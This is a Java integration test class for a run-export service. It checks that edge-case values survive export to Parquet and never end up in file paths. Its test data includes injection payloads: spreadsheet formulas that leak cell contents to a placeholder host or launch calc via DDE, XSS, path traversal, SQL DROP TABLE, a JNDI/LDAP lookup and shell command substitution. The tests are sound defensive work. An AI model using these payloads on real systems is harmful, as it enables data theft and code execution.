package dev.waybill.local;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.nio.file.Path;
import java.time.Instant;
import java.util.EnumSet;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import dev.waybill.local.stack.ServiceKind;
import dev.waybill.local.tour.ExportedFiles;

/** Tests exports of unusual values and times. */
@Tag("full")
class EdgeCasesIT {

    private static final Instant MIDNIGHT = Instant.parse("2024-02-29T00:00:00Z");
    /** Texts that spreadsheets, browsers, shells, file systems, databases or terminals may interpret. */
    private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://example.com?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "../../../../etc/passwd", "..\\..\\x", "/year=1999/month=13/day=../part-00000.parquet",
            "export_id=/tenant_id=/*?[a-z]{1,2}",
            "'; DROP TABLE trace.runs; --", "${jndi:ldap://example.com/a} {{7*7}} $(id) `id`", "a\nb\r\nc\td",
            "\u202Etxt.exe\u202C \u0627\u0644\u0639\u0631\u0628\u064A\u0629 \u200F\u200B\uFEFF",
            "\uD83D\uDE80\uD83C\uDDE9\uD83C\uDDEA\uD83D\uDC69\u200D\uD83D\uDCBB Z\u0351\u036B\u0343",
            "\u001B[31mred\u001B[0m \u0007\u007F\u0085",
            "\uFFFD \\xC3\\x28 %00 \\u0000 \\ud800", "NaN", "null", "true", "");
    private static final Pattern KEY = Pattern.compile("export_id=UUID/tenant_id=UUID/session_id=UUID/(resource=)?runs"
            .replace("UUID", "[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}") + "/year=2024/month=2/day=29/part-00000[.]parquet");
    private static final String NUL = "before\u0000after";

    private final Workspace workspace = Workspace.create("edges");

    @TempDir
    private Path folder;

    @Test
    void nulCharactersAndSurrogatesInJsonArePreserved() {
        JsonNode run = HandmadeRun.in("nul", MIDNIGHT).input("nul", NUL).input("astral", "\uD83D\uDE80 \uFFFF \u2028").json();
        assertExported("nul", "v1", run);
        assertExported("nul", "v2_beta", run);
    }

    /** Threat T16. */
    @ParameterizedTest
    @ValueSource(strings = { "v1", "v2_beta" })
    void hostileTextIsPreservedAndNotPartOfPaths(String formatVersion) {
        // Given
        String session = "../../export_id=x/year=1999/=cmd|' /C calc'!A0 \u202E";
        List<JsonNode> runs = HOSTILE.stream().map(text -> HandmadeRun.in(session, MIDNIGHT).allTexts(text).json()).toList();
        workspace.load(runs.stream());

        // When
        ExportedFiles files = export(session, MIDNIGHT, MIDNIGHT.plusSeconds(1), formatVersion);

        // Then
        assertThat(rows(files, runs)).isEqualTo(runs.size());
        assertThat(files.manifest().get("files")).hasSize(1).allSatisfy(
                file -> assertThat(file.get("path").textValue().substring(workspace.name().length() + 1)).matches(KEY));
    }

    @ParameterizedTest
    @ValueSource(strings = { "v1", "v2_beta" })
    void costsAtTheLimitsOfTheRangeArePreserved(String formatVersion) {
        // Given
        List<JsonNode> runs = Stream
                .of("999999999.999999999", "1E-9", "0.000000001", "1E+8", "0E-30", "1E-400", "0.1", "12345678.9E-7")
                .map(cost -> HandmadeRun.in("costs", MIDNIGHT).totalCost(new BigDecimal(cost)).json())
                .toList();
        workspace.load(runs.stream());

        // When
        ExportedFiles files = export("costs", MIDNIGHT, MIDNIGHT.plusSeconds(1), formatVersion);

        // Then: hyparquet converts decimals to JavaScript numbers with 15 digits, so it is excluded
        assertThat(rows(files, runs, EnumSet.of(FileReader.DUCKDB, FileReader.POLARS))).isEqualTo(runs.size());
    }

    @ParameterizedTest
    @ValueSource(strings = { "1E+9", "999999999.9999999999", "1E+999999999", "-1E-9", "-1E+999999999" })
    void intakeRejectsCostsOutOfRange(String cost) {
        JsonNode run = HandmadeRun.in("costs", MIDNIGHT).totalCost(new BigDecimal(cost)).json();

        Http.Response response = post(run.toString());

        assertThat(response.status()).isEqualTo(422);
        assertThat(response.body()).contains("total_cost");
    }

    /** Threat T16: an unpaired surrogate cannot be encoded in UTF-8; JSON can contain its escape sequence. */
    @ParameterizedTest
    @ValueSource(strings = { "v1", "v2_beta" })
    void unpairedSurrogatesAreReplaced(String formatVersion) {
        // Given
        String session = "halves-" + formatVersion;
        ObjectNode run = named((ObjectNode) HandmadeRun.in(session, MIDNIGHT).input("text", "half of \uD83D.").json(),
                "half of \uD83D.");
        Http.Response accepted = post(run.toString().replace("\uD83D", "\\ud83d"));
        assertThat(accepted.status()).as(accepted.body()).isEqualTo(202);

        // When
        ExportedFiles files = export(session, MIDNIGHT, MIDNIGHT.plusSeconds(1), formatVersion);

        // Then
        assertThat(rows(files, List.of(named(run, "half of \uFFFD.")))).isEqualTo(1);
    }

    @Test
    void inputOfSeveralMegabytesIsPreserved() {
        String text = "All the world's a stage, and all the men and women merely players. ".repeat(42_000);
        assertExported("long", "v2_beta", HandmadeRun.in("long", MIDNIGHT).input("text", text).json());
    }

    @Test
    void rangeIncludesItsStartAndExcludesItsEnd() {
        // Given
        Instant start = Instant.parse("2024-02-29T06:00:00.000001Z");
        Instant end = Instant.parse("2024-03-03T00:00:00Z");
        List<JsonNode> inside = runsAt("range", start, Instant.parse("2024-02-29T23:59:59.999999Z"),
                Instant.parse("2024-03-01T00:00:00Z"), end.minusNanos(1000));
        List<JsonNode> outside = runsAt("range", start.minusNanos(1000), end);
        workspace.load(Stream.concat(inside.stream(), outside.stream()));

        // When
        ExportedFiles files = export("range", start, end, "v1");

        // Then: the empty day has no file
        assertThat(rows(files, inside)).isEqualTo(inside.size());
        assertThat(files.files()).hasSize(3);
        assertThat(files.files()).noneMatch(file -> file.toString().contains("month=3/day=3"));
    }

    @Test
    void exportWithoutRunsHasManifestAndNoFiles() {
        // Given
        workspace.load(runsAt("empty", MIDNIGHT).stream());

        // When
        ExportedFiles files = export("empty", MIDNIGHT.plusSeconds(86_400), MIDNIGHT.plusSeconds(10 * 86_400), "v2_beta");

        // Then
        assertThat(files.files()).isEmpty();
        assertThat(files.rows()).isZero();
        assertThat(files.manifest().get("schema")).isNotEmpty();
    }

    private void assertExported(String session, String formatVersion, JsonNode run) {
        workspace.load(Stream.of(run));
        ExportedFiles files = export(session, MIDNIGHT, MIDNIGHT.plusSeconds(1), formatVersion);
        assertThat(rows(files, List.of(run))).isEqualTo(1);
    }

    private static ObjectNode named(ObjectNode run, String text) {
        run.put("name", text).put("error", text).putArray("tags").add(text);
        return run;
    }

    private Http.Response post(String run) {
        try (Http http = new Http()) {
            return http.send("POST", workspace.running().address(ServiceKind.EXPERIMENT).resolve("/api/v1/runs"),
                    workspace.apiKey(), run);
        }
    }

    private static List<JsonNode> runsAt(String session, Instant... starts) {
        return Stream.of(starts).map(start -> HandmadeRun.in(session, start).json()).toList();
    }

    private ExportedFiles export(String session, Instant start, Instant end, String formatVersion) {
        UUID id = workspace.order(workspace.session(session).id(), start, end, formatVersion, "zstandard");
        workspace.awaitCompleted(id);
        return workspace.download(id, folder);
    }

    /** Compares all rows with the runs and returns the number of rows. */
    private int rows(ExportedFiles files, List<JsonNode> runs) {
        return rows(files, runs, EnumSet.allOf(FileReader.class));
    }

    private int rows(ExportedFiles files, List<JsonNode> runs, Set<FileReader> readers) {
        Map<String, JsonNode> expected = new HashMap<>();
        runs.forEach(run -> expected.put(run.get("id").textValue(), run));
        int[] rows = { 0 };
        for (FileReader reader : readers) {
            rows[0] = 0;
            reader.read(files.files(), folder, row -> {
                JsonNode run = expected.get(row.get("id"));
                new ExpectedRow(run, workspace.session(run.get("session_name").textValue())).assertEqualTo(row);
                rows[0]++;
            });
        }
        return rows[0];
    }
}
